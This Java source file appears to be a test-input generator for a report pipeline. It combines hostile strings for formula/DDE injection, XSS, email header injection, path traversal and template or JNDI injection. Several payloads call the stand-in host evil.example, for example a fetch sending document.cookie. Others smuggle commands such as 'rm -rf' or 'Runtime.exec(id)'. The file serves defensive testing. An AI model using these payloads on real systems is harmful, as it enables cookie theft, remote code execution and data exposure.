package boardpack.pipeline.hostile;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/** Texts that want to be more than text; more than five hundred of each kind, each once. */
public enum HostileStrings {
  FORMULA(
      List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "=-", "=+", "\"=", "';=", ",="),
      List.of("1+1", "HYPERLINK(\"http://evil.example\",\"x\")", "cmd|' /C calc'!A0", "SUM(A1:A9)", "WEBSERVICE(\"http://evil.example\")",
          "IMPORTXML(\"http://evil.example\",\"//a\")", "DDE(\"cmd\",\"/C calc\",\"x\")", "INDIRECT(\"A1\")", "EXEC(\"calc\")",
          "CALL(\"Kernel32\",\"WinExec\",\"JC\",\"calc\",0)", "MSEXCEL|'\\..\\..\\cmd.exe'!''"),
      List.of("%s", "%s ", "%s;A")),
  HTML(
      List.of("<img src=x ", "<svg ", "<a href=//evil.example ", "<iframe src=//evil.example ", "<base href=//evil.example ",
          "<form action=//evil.example ", "\"><img src=x ", "'><svg ", "</title><b ", "</style><b ", "--><b ", "<![CDATA[><b ", "&lt;b ",
          "<meta http-equiv=refresh content='0;//evil.example' "),
      List.of("onerror=alert(1)>", "onload=alert(1)>", "style='position:fixed'>", "id=main>", "onmouseover=alert(1)//", "/>", ">x</b>",
          "onfocus=alert(1) autofocus>", "srcdoc='<b>'>", "xlink:href='file:///etc/passwd'>"),
      List.of("%s", "a%s", "%s<!--", "x\u0000%s")),
  SCRIPT(
      List.of("<script>", "<ScRiPt>", "<script src=//evil.example>", "<script\n>", "</script><script>", "javascript:", "JaVaScRiPt:", "java\tscript:",
          "data:text/html,<script>", "vbscript:", "<svg><script>", "<style>@import '", "\\u003cscript>", "expression(", "&#60;script&#62;"),
      List.of("alert(1)", "fetch('//evil.example?'+document.cookie)", "location='//evil.example'", "eval(name)", "top.close()", "print()",
          "this.exportDataObject({cName:'x',nLaunch:2})", "app.launchURL('http://evil.example')", "import('//evil.example')", "new Image().src='//evil.example'"),
      List.of("%s", "%s</script>", "%s//", "'\"%s")),
  HEADER(
      List.of("\r\n", "\n", "\r", "\u2028", "\u2029", "\u0085", "\u000b", "\f", "%0d%0a", "\r\n\r\n", "\n\n", "\u0000\r\n", "\\r\\n", "=0D=0A"),
      List.of("Bcc: thief@evil.example", "To: thief@evil.example", "Cc: thief@evil.example", "From: ceo@evil.example", "Subject: other",
          "Reply-To: thief@evil.example", "Content-Type: text/html", "X-Evil: 1", "MIME-Version: 2.0", "<script>", ".", "RCPT TO:<thief@evil.example>"),
      List.of("Board%s", "Board pack%s\r\nX-Evil: 2", "%s")),
  PATH(
      List.of("../", "..\\", "/", "C:\\", "%2e%2e/", "....//", "~/", "file:///", "\\\\evil.example\\", "./../", "tn-a/../", "\u2025/", "..%c0%af", "tn-a\u0000/", "shared/../"),
      List.of("etc/passwd", "landing", "tn-a", "platform", "manifest.json", "archive/x", "CON", "..", "a b", "mart.duckdb", "x;rm -rf", "`id`"),
      List.of("%s", "%s.pdf", "%s/", "%s\u0000.pdf")),
  EXPRESSION(
      List.of("$F{x}+", "$P{REPORT_CONNECTION}.", "$V{x}+", "$R{x}", "${", "#{", "<#assign x=", "<@x>${", "[#-- ", "]]>", "$X{IN,a,b}", "${\"freemarker.template.utility.Execute\"?new()(\"",
          "<#include \"", "{{", "*{"),
      List.of("new java.io.File(\"acted-upon\").createNewFile()", "T(java.lang.Runtime).getRuntime().exec('id')", "System.exit(1)",
          "java.lang.System.getenv()", "pack.seal", "1+1", "7*7}", "class.forName('x')", "jndi:ldap://evil.example/a}", "env:HOME}", "\"?new()}", "'); drop table events; --"),
      List.of("%s", "%s}", "%s\")}"));

  /** The least there are of each kind. */
  public static final int LEAST = 500;

  private final List<String> beginnings;
  private final List<String> bodies;
  private final List<String> frames;

  HostileStrings(List<String> beginnings, List<String> bodies, List<String> frames) {
    this.beginnings = beginnings;
    this.bodies = bodies;
    this.frames = frames;
  }

  public List<String> all() {
    List<String> all = new ArrayList<>();
    for (String beginning : beginnings) {
      for (String body : bodies) {
        for (String frame : frames) {
          all.add(frame.replace("%s", beginning + body));
        }
      }
    }
    return all;
  }

  @Override
  public String toString() {
    return name().toLowerCase(Locale.ROOT);
  }
}
